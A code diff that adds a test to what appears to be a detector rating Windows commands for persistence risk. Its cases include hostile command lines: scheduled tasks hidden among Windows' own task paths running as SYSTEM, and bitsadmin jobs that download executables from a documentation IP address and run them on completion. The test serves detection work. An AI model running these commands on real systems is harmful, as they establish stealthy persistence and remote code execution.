@@ -275,3 +275,27 @@ def test_dropped_files_and_login_items(command, expected):
 ])
 def test_left_behind(command, expected):
     _holds(command, expected)
+
+
+# A task made among Windows' own to pass for one of them; a BITS job told to run what it downloads (autostart_writable).
+@each_form("command,expected", [
+    (r'schtasks.exe /Create /F /SC DAILY /ST 09:00 /TN "\Microsoft\Windows\Maintenance\Sync" '
+     r'/TR "cmd /c start /min C:\ProgramData\sync.bat" /RU SYSTEM', "medium"),
+    (r'schtasks /create /tn \Microsoft\Windows\WDI\Probe /tr "C:\Tools\probe.exe" /sc onstart', "medium"),
+    (r'Register-ScheduledTask -TaskPath "\Microsoft\Windows\Defrag\" -TaskName Opt -Action $a -Trigger $t', "medium"),
+    (r"bitsadmin /create u & bitsadmin /addfile u http://198.51.100.7/a.exe %APPDATA%\a.exe & "
+     r"bitsadmin /SetNotifyCmdLine u %APPDATA%\a.exe NULL & bitsadmin /resume u", "high"),
+    (r"bitsadmin /transfer j /download http://198.51.100.7/u.exe C:\Users\me\AppData\Roaming\u.exe & "
+     r"bitsadmin /create k & bitsadmin /SetNotifyCmdLine k C:\Users\me\AppData\Roaming\u.exe NUL", "high"),
+    (r'bitsadmin /create j & bitsadmin /addfile j http://198.51.100.7/u.bat C:\x\u.bat & '
+     r'bitsadmin /SetNotifyCmdLine j cmd.exe "/c C:\x\u.bat" & bitsadmin /resume j', "high"),
+    # everyday
+    (r'schtasks /create /tn "\Vendor\Updater" /tr "C:\Program Files\Vendor\upd.exe" /sc daily', "quiet"),
+    (r'schtasks /query /tn \Microsoft\Windows\Defrag\ScheduledDefrag', "quiet"),
+    (r'Register-ScheduledTask -TaskPath "\Backups\" -TaskName Nightly -Action $a -Trigger $t', "quiet"),
+    (r'bitsadmin /create j & bitsadmin /addfile j https://example.com/f.zip C:\data\f.zip & '
+     r'bitsadmin /SetNotifyCmdLine j C:\tools\unzip.exe "C:\tools\unzip.exe C:\data\f.zip" & bitsadmin /resume j',
+     "quiet"),
+])
+def test_tasks_among_windows_own_and_bits_runs(command, expected):
+    _holds(command, expected)
